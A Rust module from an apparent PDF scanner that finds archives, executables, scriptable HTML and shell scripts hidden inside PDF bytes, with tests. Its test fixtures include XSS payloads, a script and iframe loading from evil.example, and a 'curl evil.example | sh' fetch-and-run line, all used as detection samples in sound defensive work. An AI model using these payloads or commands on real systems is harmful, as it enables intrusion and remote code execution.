//! Finds a second file format hidden in bytes that should only be a PDF: an archive, an
//! Office container, a program or an HTML page, wherever it sits.
//!
//! A PDF reader skips what it does not reference, so anything can ride along before the first
//! object, between objects, after `%%EOF` or inside a stream. Other programs do not skip it:
//! unzip and 7-Zip find archives by their headers, virus scanners give up on nested formats
//! they cannot unpack, and a browser that is ever handed the file as a web page runs any
//! script in it, whatever binary precedes it.
//!
//! Compressed fonts and images are noise-like, so a two-byte magic such as `PK` or `MZ` turns
//! up by chance in most large PDFs. Each format is therefore recognised by a structure its own
//! tools need, not by its magic alone: a ZIP entry with a plausible version, method, name and
//! size, or an end record whose central directory is where it says; an MZ header whose
//! `e_lfanew` points at `PE\0\0`; markup only where a browser would act on it. In random data
//! each check matches about once in 2^40 positions or less, so a 10 MB PDF of compressed
//! images triggers none.

use crate::kind::Detected;

/// Bytes that can start one of the structures below; everything else is skipped in one step.
const STARTS: [bool; 256] = {
    let mut table = [false; 256];
    let starts: [u8; 11] = [b'P', b'M', 0x7F, 0xFE, 0xCE, 0xCF, 0xCA, b'R', b'7', 0xD0, b'<'];
    let mut i = 0;
    while i < starts.len() {
        table[starts[i] as usize] = true;
        i += 1;
    }
    table
};

/// The first other format found anywhere in `bytes`, as the sniffer names it.
pub(crate) fn find(bytes: &[u8]) -> Option<Detected> {
    let mut at = 0;
    while let Some(offset) = bytes.get(at..)?.iter().position(|&b| STARTS[usize::from(b)]) {
        let here = at + offset;
        if let Some(found) = format_at(bytes, here) {
            return Some(found);
        }
        at = here + 1;
    }
    None
}

/// [`find`], plus a script file: a decoded stream that starts with `#!/…`, which is what an
/// extracted stream would be run as.
pub(crate) fn find_in_stream(decoded: &[u8]) -> Option<Detected> {
    if is_shebang(decoded) { Some(Detected::Executable) } else { find(decoded) }
}

fn format_at(bytes: &[u8], at: usize) -> Option<Detected> {
    let rest = &bytes[at..];
    match rest[0] {
        b'P' if zip_entry(bytes, at) || zip_end(bytes, at) || zip64_end(rest) => Some(Detected::Zip),
        b'M' if pe(rest) => Some(Detected::Executable),
        0x7F if elf(rest) => Some(Detected::Executable),
        0xFE | 0xCE | 0xCF | 0xCA if mach_o(rest) => Some(Detected::Executable),
        b'R' if rest.starts_with(b"Rar!\x1a\x07\x00") || rest.starts_with(b"Rar!\x1a\x07\x01\x00") => Some(Detected::Rar),
        b'7' if rest.starts_with(b"7z\xBC\xAF\x27\x1C\x00") => Some(Detected::SevenZip),
        0xD0 if rest.starts_with(&[0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]) => Some(Detected::LegacyOffice),
        b'<' if html(rest) => Some(Detected::Html),
        _ => None,
    }
}

fn u16_le(bytes: &[u8], at: usize) -> Option<u16> {
    bytes.get(at..at + 2).map(|b| u16::from_le_bytes([b[0], b[1]]))
}

fn u32_le(bytes: &[u8], at: usize) -> Option<u32> {
    bytes.get(at..at + 4).map(|b| u32::from_le_bytes([b[0], b[1], b[2], b[3]]))
}

fn u32_be(bytes: &[u8], at: usize) -> Option<u32> {
    bytes.get(at..at + 4).map(|b| u32::from_be_bytes([b[0], b[1], b[2], b[3]]))
}

/// Compression methods of the ZIP specification (APPNOTE 6.3.10), 0 (stored) to 99 (AES).
const ZIP_METHODS: [u16; 21] = [0, 1, 2, 3, 4, 5, 6, 8, 9, 10, 12, 14, 18, 19, 93, 94, 95, 96, 97, 98, 99];

/// A local file header as extractors read it: known version and method, a name, and, unless
/// the sizes follow the data, data that fits in what is left.
fn zip_entry(bytes: &[u8], at: usize) -> bool {
    let rest = &bytes[at..];
    if !rest.starts_with(b"PK\x03\x04") {
        return false;
    }
    let (Some(version), Some(flags), Some(method), Some(compressed), Some(name_len), Some(extra_len)) =
        (u16_le(rest, 4), u16_le(rest, 6), u16_le(rest, 8), u32_le(rest, 18), u16_le(rest, 26), u16_le(rest, 28))
    else {
        return false;
    };
    let name_len = usize::from(name_len);
    let header_end = 30 + name_len + usize::from(extra_len);
    // Bit 3: sizes are in a descriptor after the data, so the header's are zero.
    let data_fits = flags & 0x08 != 0 || usize::try_from(compressed).is_ok_and(|size| header_end + size <= rest.len());
    version <= 63 && ZIP_METHODS.contains(&method) && (1..=4096).contains(&name_len) && header_end <= rest.len() && data_fits
}

/// An end-of-central-directory record whose directory ends right where the record starts,
/// or which a ZIP64 locator precedes.
fn zip_end(bytes: &[u8], at: usize) -> bool {
    let rest = &bytes[at..];
    if !rest.starts_with(b"PK\x05\x06") {
        return false;
    }
    let (Some(disk), Some(directory_disk), Some(on_disk), Some(entries), Some(directory_size)) =
        (u16_le(rest, 4), u16_le(rest, 6), u16_le(rest, 8), u16_le(rest, 10), u32_le(rest, 12))
    else {
        return false;
    };
    if disk != directory_disk || on_disk > entries || entries == 0 {
        return false;
    }
    let directory_here = usize::try_from(directory_size)
        .ok()
        .filter(|&size| size >= 46)
        .and_then(|size| at.checked_sub(size))
        .is_some_and(|start| bytes[start..].starts_with(b"PK\x01\x02"));
    let zip64_locator = at.checked_sub(20).is_some_and(|start| bytes[start..].starts_with(b"PK\x06\x07"));
    directory_here || zip64_locator
}

/// A ZIP64 end record: signature and a record size the specification allows.
fn zip64_end(rest: &[u8]) -> bool {
    rest.starts_with(b"PK\x06\x06") && rest.get(4..12).is_some_and(|size| (44..=65_535).contains(&u64::from_le_bytes(size_bytes(size))))
}

fn size_bytes(bytes: &[u8]) -> [u8; 8] {
    let mut array = [0; 8];
    array.copy_from_slice(&bytes[..8]);
    array
}

/// A Windows program: `MZ`, and at the offset in `e_lfanew` the `PE\0\0` signature.
fn pe(rest: &[u8]) -> bool {
    rest.starts_with(b"MZ")
        && u32_le(rest, 0x3C)
            .and_then(|offset| usize::try_from(offset).ok())
            .filter(|offset| (0x40..=0x1_0000).contains(offset))
            .is_some_and(|offset| rest.get(offset..offset + 4) == Some(b"PE\0\0"))
}

/// A Linux program: ELF magic with a valid class, byte order and version.
fn elf(rest: &[u8]) -> bool {
    rest.starts_with(b"\x7fELF") && matches!(rest.get(4..7), Some([1 | 2, 1 | 2, 1]))
}

/// A macOS program: thin Mach-O with a known file type and a sane command count, or a
/// universal binary with a few architectures of known CPU types.
fn mach_o(rest: &[u8]) -> bool {
    let read = match rest.get(..4) {
        Some([0xFE, 0xED, 0xFA, 0xCE | 0xCF]) => u32_be,
        Some([0xCE | 0xCF, 0xFA, 0xED, 0xFE]) => u32_le,
        Some([0xCA, 0xFE, 0xBA, 0xBE]) => {
            // Java class files share this magic; their version puts the count far above 16.
            const CPUS: [u32; 7] = [7, 0x0100_0007, 12, 0x0100_000C, 0x0200_000C, 18, 0x0100_0012];
            return u32_be(rest, 4).is_some_and(|count| (1..=16).contains(&count))
                && u32_be(rest, 8).is_some_and(|cpu| CPUS.contains(&cpu));
        }
        _ => return false,
    };
    read(rest, 12).is_some_and(|file_type| (1..=12).contains(&file_type))
        && read(rest, 16).is_some_and(|commands| (1..=4096).contains(&commands))
}

/// A decoded stream that is a script for a Unix shell: `#!/` and a printable first line.
fn is_shebang(decoded: &[u8]) -> bool {
    decoded.starts_with(b"#!/")
        && decoded.iter().take(256).position(|&b| b == b'\n').is_some_and(|end| decoded[..end].iter().all(|b| (0x20..0x7F).contains(b)))
}

/// Elements that run script or load other documents by themselves, and the openings of an HTML
/// document. Shorter tags (`<a`, `<img`, `<svg`) turn up in compressed data by chance; they are
/// caught when they carry an event handler or a `javascript:` link, which they need to run.
const TAGS: [&[u8]; 9] = [b"script", b"iframe", b"frame", b"frameset", b"object", b"embed", b"applet", b"html", b"!doctype html"];

/// How far into a tag we look for its attributes.
const TAG_SCAN: usize = 1024;

/// Whether a browser parsing these bytes as HTML would act on the tag starting at `rest[0]`.
fn html(rest: &[u8]) -> bool {
    let Some(after) = rest.get(1..) else { return false };
    if TAGS.iter().any(|tag| after.len() > tag.len() && after[..tag.len()].eq_ignore_ascii_case(tag) && ends_tag_name(after[tag.len()])) {
        return true;
    }
    // `<img src=x onerror=…>`, `<svg onload=…>`, `<a href="javascript:…">`: any element with
    // a handler or a script link.
    let name_len = after.iter().take(16).position(|b| !b.is_ascii_alphanumeric()).unwrap_or(0);
    if name_len == 0 || !after[0].is_ascii_alphabetic() || !ends_tag_name(after[name_len]) || after[name_len] == b'>' {
        return false;
    }
    let attributes = &after[name_len..];
    let end = attributes.iter().take(TAG_SCAN).position(|&b| b == b'>' || b == b'<').unwrap_or(attributes.len().min(TAG_SCAN));
    let attributes = &attributes[..end];
    (0..attributes.len()).any(|i| event_handler(attributes, i) || script_link(&attributes[i..]))
}

fn ends_tag_name(byte: u8) -> bool {
    matches!(byte, b' ' | b'\t' | b'\n' | b'\r' | b'\x0c' | b'/' | b'>')
}

/// ` onload=`, `/onerror =`: an attribute named `on` and three or more letters, at `i`.
fn event_handler(attributes: &[u8], i: usize) -> bool {
    let separated = i > 0 && matches!(attributes[i - 1], b' ' | b'\t' | b'\n' | b'\r' | b'\x0c' | b'/' | b'"' | b'\'');
    let rest = &attributes[i..];
    if !separated || rest.len() < 6 || !rest[..2].eq_ignore_ascii_case(b"on") {
        return false;
    }
    let letters = rest[2..].iter().take_while(|b| b.is_ascii_alphabetic()).count();
    let after = &rest[2 + letters..];
    let equals = after.iter().position(|b| !matches!(b, b' ' | b'\t' | b'\n' | b'\r' | b'\x0c'));
    letters >= 3 && equals.is_some_and(|at| after[at] == b'=')
}

fn script_link(rest: &[u8]) -> bool {
    rest.len() >= 11 && rest[..11].eq_ignore_ascii_case(b"javascript:")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::samples;
    use proptest::prelude::*;

    fn inside_noise(payload: &[u8]) -> Vec<u8> {
        let mut bytes = samples::noise(5_000, 7);
        bytes.extend(payload);
        bytes.extend(samples::noise(5_000, 11));
        bytes
    }

    #[test]
    fn finds_archives_by_their_structure() {
        let zip = samples::zipped_eicar();
        assert_eq!(find(&inside_noise(&zip)), Some(Detected::Zip));
        // The end record alone is enough, and so is the first entry alone.
        let end = zip.windows(4).position(|w| w == b"PK\x05\x06").unwrap();
        let directory = zip.windows(4).position(|w| w == b"PK\x01\x02").unwrap();
        assert_eq!(find(&zip[directory..]), Some(Detected::Zip));
        assert_eq!(find(&zip[..end]), Some(Detected::Zip));
        assert_eq!(find(b"..Rar!\x1a\x07\x01\x00.."), Some(Detected::Rar));
        assert_eq!(find(b"..7z\xBC\xAF\x27\x1C\x00\x04"), Some(Detected::SevenZip));
        assert_eq!(find(b"\0\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1\0"), Some(Detected::LegacyOffice));
    }

    #[test]
    fn a_bare_zip_signature_is_not_an_archive() {
        assert_eq!(find(b"PK\x03\x04 and then text that is no header at all"), None);
        let mut end = b"PK\x05\x06".to_vec();
        end.extend([0, 0, 0, 0, 1, 0, 1, 0, 100, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
        assert_eq!(find(&end), None, "an end record with no directory before it");
    }

    #[test]
    fn finds_programs_by_their_headers() {
        assert_eq!(find(&inside_noise(&samples::exe())), Some(Detected::Executable));
        assert_eq!(find(&inside_noise(b"\x7fELF\x02\x01\x01\x00\x00")), Some(Detected::Executable));
        let mut mach = vec![0xCF, 0xFA, 0xED, 0xFE, 7, 0, 0, 1, 3, 0, 0, 0];
        mach.extend(2u32.to_le_bytes());
        mach.extend(15u32.to_le_bytes());
        assert_eq!(find(&inside_noise(&mach)), Some(Detected::Executable));
        assert_eq!(find(b"MZ is how a DOS program starts, PE\0\0 is not where it points"), None);
        // A Java class file is no universal binary.
        assert_eq!(find(b"\xCA\xFE\xBA\xBE\x00\x00\x00\x34\x00\x07"), None);
    }

    #[test]
    fn finds_markup_a_browser_would_run() {
        for page in [
            b"<!DOCTYPE html><title>x</title>".as_slice(),
            b"<HTML>",
            b"<script>alert(1)</script>",
            b"<ScRiPt src=//evil.example/x.js></script>",
            b"<iframe src=https://evil.example>",
            b"<img src=x onerror=alert(1)>",
            b"<svg/onload=alert(1)>",
            b"<a href=\"JavaScript:alert(1)\">click</a>",
            b"<body onload = 'alert(1)'>",
        ] {
            assert_eq!(find(&inside_noise(page)), Some(Detected::Html), "{}", String::from_utf8_lossy(page));
        }
    }

    #[test]
    fn markup_without_script_and_pdf_syntax_are_not_html() {
        for text in [
            b"<< /Type /Page /Parent 2 0 R >>".as_slice(),
            b"/ID [<a1b2c3> <d4e5f6>]",
            b"<abc def>",
            b"<scripts>",
            b"<p dir=\"ltr\"><span style=\"font-size:10pt\">Comment</span></p>",
            b"<body xmlns=\"http://www.w3.org/1999/xhtml\"><p>Acrobat rich text</p></body>",
            b"<rdf:Description rdf:about=\"\" xmlns:dc=\"http://purl.org/dc/elements/1.1/\">",
            b"<img src=\"logo.png\" alt=\"online\">",
        ] {
            assert_eq!(find(text), None, "{}", String::from_utf8_lossy(text));
        }
    }

    #[test]
    fn shebang_only_counts_at_the_start_of_a_stream() {
        assert_eq!(find_in_stream(b"#!/bin/sh\ncurl evil.example | sh\n"), Some(Detected::Executable));
        assert_eq!(find_in_stream(b"q 1 0 0 1 0 0 cm #!/bin/sh\n"), None);
        assert_eq!(find_in_stream(b"#!/\x01\x02\x03"), None);
    }

    #[test]
    fn sixteen_megabytes_of_noise_hold_nothing() {
        // What a page of compressed scan or an embedded font looks like to the scanner.
        for seed in 1..=4 {
            assert_eq!(find(&samples::noise(4 * 1024 * 1024, seed)), None, "seed {seed}");
        }
    }

    proptest! {
        #[test]
        fn never_panics(bytes in proptest::collection::vec(any::<u8>(), 0..2048)) {
            let _ = find_in_stream(&bytes);
        }

        #[test]
        fn never_panics_near_signatures(which in 0usize..6, tail in proptest::collection::vec(any::<u8>(), 0..96)) {
            let mut bytes = [b"PK\x03\x04".as_slice(), b"PK\x05\x06", b"PK\x06\x06", b"MZ", b"\xCA\xFE\xBA\xBE", b"<a "][which].to_vec();
            bytes.extend(tail);
            let _ = find(&bytes);
        }
    }
}
